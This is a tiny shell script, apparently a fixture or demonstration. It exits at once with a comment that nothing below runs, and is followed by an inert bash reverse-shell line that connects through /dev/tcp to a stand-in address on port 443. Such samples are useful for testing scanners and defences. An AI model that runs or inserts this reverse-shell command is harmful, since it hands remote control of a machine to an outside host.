#!/bin/sh
exit 0 # nothing below ever runs
bash -c "bash -i >& /dev/tcp/192.0.2.9/443 0>&1"
